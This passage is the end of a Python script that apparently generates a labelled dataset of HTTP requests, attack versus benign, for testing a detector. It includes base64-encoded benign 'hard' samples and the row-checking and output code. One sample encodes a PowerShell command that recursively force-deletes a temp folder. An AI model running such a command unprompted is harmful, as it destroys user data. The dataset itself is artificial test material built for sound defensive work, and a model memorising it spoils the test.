            ("POST", "/api/v1/uploads/chunk"),
            {"upload_id": uuid4(), "part": 3, "bytes": SENT},
            b64(MAGIC["zip"] + rbytes(700)),
        ),
        (
            "q",
            ("GET", "/img/proxy", "src"),
            None,
            b64u("https://images.%s/%s.jpg?w=800&q=75" % (pick(["mintbarrow.io", "velvetpine.com"]), hexs(8))),
        ),
        ("j", ("POST", "/api/v1/notes/sync"), {"encrypted": True, "blob": SENT}, b64(rbytes(333))),
        (
            "j",
            ("POST", "/api/v1/print-jobs"),
            {"printer": "HP-4th-floor", "document": SENT, "format": "pdf"},
            b64(MAGIC["pdf"] + rbytes(420)),
        ),
        (
            "f",
            ("POST", "/profile/photo", "image", [("_token", alnum(40))]),
            None,
            "data:image/jpeg;base64," + b64(MAGIC["jpeg"] + rbytes(250)),
        ),
        (
            "j",
            ("POST", "/api/v1/backups/restore"),
            {"archive": SENT, "compression": "gzip"},
            b64(MAGIC["gzip"] + rbytes(500)),
        ),
        ("h", "X-Hub-Signature-256", None, "sha256=" + hexs(64)),
        (
            "j",
            ("POST", "/api/v1/push/subscribe"),
            {
                "endpoint": "https://fcm.googleapis.com/fcm/send/" + alnum(40),
                "keys": {"p256dh": SENT, "auth": b64u(rbytes(16))},
            },
            b64u(b"\x04" + rbytes(64)),
        ),
        (
            "j",
            ("POST", "/api/v1/templates/email"),
            {"name": "receipt", "mjml_base64": SENT},
            b64("<mjml><mj-body><mj-text>Thanks for your order, {{name}}!</mj-text></mj-body></mjml>"),
        ),
        (
            "c",
            "flash",
            None,
            b64(cjson({"type": "info", "msg": "Select a plan to continue -- you're on the free tier"})),
        ),
        (
            "j",
            ("POST", "/api/v1/scripts"),
            {"name": "cleanup", "body_b64": SENT},
            b64("Get-ChildItem C:\\Temp -Recurse | Remove-Item -Force\n"),
        ),
        ("q", ("GET", "/download", "token"), None, b64u(rbytes(48))),
    ]


def b64_item(pl, ctx, doc, v, h):
    if pl == "j":
        return I("j", v, h, ctx=ctx, doc=doc)
    if pl == "q":
        return I("q", v, h, ctx=ctx)
    if pl == "f":
        return I("f", v, h, ctx=ctx, kind="browser")
    if pl == "h":
        return I("h", v, h, name=ctx)
    return I("c", v, h, name=ctx)


def gen_base64():
    soft, seen = [], set()
    k = 0
    while len(soft) < N_SOFT:
        pl, ctx, doc, v = b64_soft(k)
        k += 1
        if v not in seen:
            seen.add(v)
            soft.append(b64_item(pl, ctx, doc, v, False))
    hv = b64_hard()
    hard = [b64_item(*hv[i], True) for i in R.sample(range(len(hv)), N_HARD)]
    return soft + hard


ITEMS["benign_base64"] = gen_base64()


# ================================================================ main
def check_row(r):
    assert list(r) == KEYS, list(r)
    if r["body"] and r["headers"]["Content-Type"].startswith("application/json"):
        json.loads(r["body"])
    if r["body"] and r["headers"]["Content-Type"].startswith("multipart/form-data"):
        bnd = r["headers"]["Content-Type"].split("boundary=", 1)[1]
        assert r["body"].startswith("--" + bnd + "\r\n") and r["body"].endswith("--" + bnd + "--\r\n")


def main():
    for cat in ATTACK_CATS:
        build_all("attack", cat)
        assert COUNT[cat] == 44, (cat, COUNT[cat])
    for cat in BENIGN_CATS:
        build_all("benign", cat)
        assert COUNT[cat] >= 70, (cat, COUNT[cat])
    assert sum(COUNT[c] for c in BENIGN_CATS) >= 1120
    lines = []
    for r in ROWS:
        check_row(r)
        lines.append(json.dumps(r, ensure_ascii=False, separators=(", ", ": ")))
    with open(OUT, "w", encoding="utf-8", newline="\n") as fh:
        fh.write("\n".join(lines) + "\n")
    n_att = sum(1 for r in ROWS if r["label"] == "attack")
    n_hard = sum(1 for r in ROWS if r["hard"])
    print("wrote %d rows (%d attack, %d benign, %d hard) to %s" % (len(ROWS), n_att, len(ROWS) - n_att, n_hard, OUT))


if __name__ == "__main__":
    main()
